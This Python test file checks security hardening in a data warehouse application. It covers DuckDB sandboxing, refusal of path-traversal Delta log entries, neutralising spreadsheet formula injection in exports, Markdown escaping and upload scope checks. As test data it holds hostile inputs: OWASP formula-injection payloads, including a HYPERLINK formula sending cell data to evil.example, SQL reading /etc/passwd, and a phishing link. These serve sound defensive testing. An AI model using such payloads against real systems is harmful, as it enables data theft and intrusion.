"""Hardening (issue 10): DuckDB connections read only their files, manifest entries outside the warehouse are
refused, spreadsheet formula injection is neutralised in every CSV/XLSX planwatch writes, untrusted text is
Markdown-escaped, uploads outside the scope are rejected and logged with the role, and the server's binding."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest

from warehouse import duck, quality
from warehouse.defs_loader import require_definitions
from warehouse.engine import Engine
from warehouse.safe_cells import safe_cell, safe_frame
from warehouse.safe_text import ZWSP, md, no_paths
from warehouse.storage import Warehouse, WarehouseError, ingest_file

ROOT = Path(__file__).resolve().parent.parent
# OWASP's classic payloads, plus the cells that must stay as they are
PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "\t=1+1", "\r=1+1"]
KEPT = ["-12.5", "+3", "-1e3", "hello", "綦江区", "", "a=b"]


@pytest.fixture(scope="module")
def defs():
    return require_definitions(ROOT / "indicator_defs.yaml")


# ---------------------------------------------------------------------------------------------- DuckDB


def test_engine_connection_reads_only_its_files(sample_warehouse, defs):
    engine = Engine(sample_warehouse, defs)
    snapshot = engine.warehouse.snapshot()
    con, files = engine._connect(snapshot, None, None)
    try:
        assert con.sql("SELECT count(*) FROM read_parquet($f)", params={"f": files}).fetchall()[0][0] > 0
        refused = [
            "SELECT * FROM read_csv('/etc/passwd')",
            f"COPY (SELECT 1 AS a) TO '{sample_warehouse}/stolen.csv'",
            "COPY (SELECT 1 AS a) TO '/tmp/planwatch-stolen.csv'",
            f"COPY (SELECT 1 AS a) TO '{files[0]}'",  # not even over a file it may read
            "ATTACH '/tmp/planwatch-other.duckdb'",
            "INSTALL httpfs",
            "SELECT * FROM glob('/etc/*')",
            "SET enable_external_access = true",
            "SET allowed_paths = ['/etc/passwd']",
        ]
        for sql in refused:
            with pytest.raises(duckdb.Error):
                con.sql(sql).fetchall() if sql.startswith("SELECT") else con.execute(sql)
        assert not (sample_warehouse / "stolen.csv").exists() and not Path("/tmp/planwatch-stolen.csv").exists()
        # settings set before sealing are in force and locked
        assert con.sql("SELECT current_setting('TimeZone')").fetchall()[0][0] == "UTC"
    finally:
        con.close()


def test_sealed_connection_still_spills(tmp_path):
    con = duckdb.connect(config={"temp_directory": str(tmp_path / "spill"), "memory_limit": "60MB"})
    duck.seal(con, [])
    n = con.sql("SELECT count(*) FROM (SELECT md5(range::VARCHAR) AS m FROM range(2000000) ORDER BY m)").fetchall()
    assert n == [(2_000_000,)]


def _tamper_add_path(wh: Path, path: str) -> None:
    """Append a commit to the Delta log whose add action names `path` (a hand-edited or hostile log)."""
    log = wh / "table" / "_delta_log"
    last = max(log.glob("*.json"))
    add = None
    for line in last.read_text().splitlines():
        action = json.loads(line)
        if "add" in action:
            add = action["add"]
    assert add is not None, "the last commit of the sample adds a file"
    version = int(last.stem) + 1
    commit = {"commitInfo": {"timestamp": 1, "operation": "WRITE", "operationParameters": {"mode": "Append"}}}
    (log / f"{version:020d}.json").write_text(json.dumps(commit) + "\n" + json.dumps({"add": dict(add, path=path)}) + "\n")


@pytest.mark.parametrize("hostile", ["../../elsewhere.parquet", "/etc/passwd"])
def test_log_entry_outside_the_warehouse_is_refused(sample_warehouse, defs, tmp_path, hostile):
    wh = tmp_path / "wh"
    shutil.copytree(sample_warehouse, wh)
    shutil.copyfile(next((wh / "table").glob("*.parquet")), tmp_path / "elsewhere.parquet")
    _tamper_add_path(wh, hostile)
    with pytest.raises(WarehouseError) as caught:
        Warehouse(wh).snapshot()
    assert "outside the warehouse folder" in str(caught.value) and str(tmp_path) not in str(caught.value)
    with pytest.raises(Exception):
        Engine(wh, defs).status("50")


# ---------------------------------------------------------------------------------------------- formulas


def test_safe_cell_rule():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    for kept in KEPT:
        assert safe_cell(kept) == kept
    assert safe_cell(-12.5) == -12.5 and safe_cell(None) is None


def _frame() -> pl.DataFrame:
    return pl.DataFrame({"地区": PAYLOADS + KEPT, "得分": [-1.5] * (len(PAYLOADS) + len(KEPT))})


def test_rankings_csv_and_xlsx_downloads(tmp_path):
    rows = list(csv.reader(io.StringIO(quality.csv_bytes(_frame()).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + KEPT
    assert {r[1] for r in rows[1:]} == {"-1.5"}  # a negative number stays a number
    path = tmp_path / "r.xlsx"
    path.write_bytes(quality.xlsx_bytes(_frame()))
    sheet = openpyxl.load_workbook(path).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(PAYLOADS))]
    assert [str(c.value).replace("_x000D_", "\r") for c in cells] == ["'" + p for p in PAYLOADS]
    assert all(c.data_type == "s" for c in cells)  # text, not formulas
    assert sheet.cell(row=2, column=2).value == -1.5 and sheet.cell(row=2, column=2).data_type == "n"


def test_rejection_report_csv(tmp_path):
    from warehouse.ingest import REJECTION_SCHEMA, write_rejections_csv

    # one distinct reason per row, so the report (one line per distinct problem) keeps one line each
    frame = pl.DataFrame([{"row": i + 2, "column": "value", "value": p, "reason_zh": f"不是数字 {i}",
                           "reason_en": f"not a number {i}", "severity": "error"} for i, p in enumerate(PAYLOADS)],
                         schema=REJECTION_SCHEMA)
    write_rejections_csv(frame, tmp_path / "rej.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "rej.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert sorted(r[2] for r in rows[1:]) == sorted("'" + p for p in PAYLOADS)
    assert sorted(r[0] for r in rows[1:]) == sorted(str(i + 2) for i in range(len(PAYLOADS)))
    # the page's table of those rows (and its own CSV download) shows the neutralised text
    assert sorted(quality.read_rejections(tmp_path / "rej.csv")["value"].to_list()) == sorted("'" + p for p in PAYLOADS)


def test_safe_frame_leaves_numbers_and_header():
    out = safe_frame(pl.DataFrame({"=x": ["=1"], "n": [-3]}))
    assert out.columns == ["'=x", "n"] and out.row(0) == ("'=1", -3)


# ---------------------------------------------------------------------------------------------- text


def test_markdown_escape_and_paths():
    link = "[请点击此处重新登录](http://evil.example/login)"
    shown = md(link)
    assert "](" not in shown and "http://" not in shown
    assert shown.replace("\\", "").replace(ZWSP, "") == link  # what the reader sees: the text as written
    assert "![" not in md("![x](http://127.0.0.1:9/x.png)")
    assert "@" not in md("a@b.cn").replace("\\@", "") and "www." not in md("www.evil.example")
    assert md(":red[x] $x$ **b**").count("\\") == 9
    assert no_paths("IO Error: /srv/planwatch/wh/batches/a.parquet: missing") == "IO Error: a.parquet: missing"
    assert no_paths("文件不存在 / file not found: /tmp/planwatch-upload-x/报送.csv") == "文件不存在 / file not found: 报送.csv"


# ---------------------------------------------------------------------------------------------- uploads


def test_upload_outside_scope_is_rejected_and_role_logged(sample_warehouse, defs, tmp_path):
    from warehouse.regions import RegionRegistry

    wh = tmp_path / "wh"
    shutil.copytree(sample_warehouse, wh)
    registry = RegionRegistry.load(wh / "regions.parquet")
    src = tmp_path / "qj.csv"
    src.write_text("region_code,indicator_id,period,value\n"
                   "500110,registered_volunteers,2025-10,12.5\n"
                   "500101,registered_volunteers,2025-10,3\n"
                   "500110,registered_volunteers,2025-09,11\n", encoding="utf-8")
    dry = ingest_file(Warehouse(wh), src, defs, registry, dry_run=True, user="qj@x.cn", role="submitter",
                      scope=["500110"], rejections_path=tmp_path / "dry.csv")
    assert (dry.rows_accepted, dry.rows_rejected) == (0, 1)  # all-or-nothing by default
    rows = list(csv.reader(io.StringIO((tmp_path / "dry.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][:3] == ["3", "region_code", "500101"] and "不在您的权限范围内" in rows[1][3]
    result = ingest_file(Warehouse(wh), src, defs, registry, accept_valid_rows=True, user="qj@x.cn",
                         role="submitter", scope=["500110"])
    assert result.status == "accepted" and (result.rows_accepted, result.rows_rejected) == (2, 1)
    stored = quality.load_submissions(wh).filter(pl.col("source_file") == "qj.csv")
    assert sorted(stored["period"].to_list()) == ["2025-09", "2025-10"] and set(stored["region_code"]) == {"500110"}
    entry = Warehouse(wh).log_entries().filter(pl.col("file_name") == "qj.csv").row(0, named=True)
    assert (entry["user"], entry["role"]) == ("qj@x.cn", "submitter")


# ---------------------------------------------------------------------------------------------- serving


def test_serve_binding_and_mode(tmp_path, monkeypatch):
    from warehouse import serve

    monkeypatch.delenv("STREAMLIT_SERVER_ADDRESS", raising=False)
    monkeypatch.chdir(tmp_path)  # no .streamlit/ here
    assert not serve.address_given(["--server.port", "1"])
    assert serve.address_given(["--server.address", "0.0.0.0"]) and serve.address_given(["--server.address=::"])
    monkeypatch.setenv("STREAMLIT_SERVER_ADDRESS", "10.0.0.1")
    assert serve.address_given([])
    monkeypatch.delenv("STREAMLIT_SERVER_ADDRESS")
    secrets = tmp_path / "s.toml"
    secrets.write_text('[other]\nx = 1\n', encoding="utf-8")
    assert not serve.auth_configured(["--secrets.files", str(secrets)])
    assert "demo mode" in serve.startup_message(["--secrets.files", str(secrets)])
    assert "listening on 127.0.0.1 only" in serve.startup_message(["--secrets.files", str(secrets)])
    secrets.write_text('[auth]\nclient_id = "x"\n', encoding="utf-8")
    assert serve.auth_configured(["--secrets.files", str(secrets)])
    assert "sign-in required" in serve.startup_message(["--secrets.files", str(secrets), "--server.address", "0.0.0.0"])
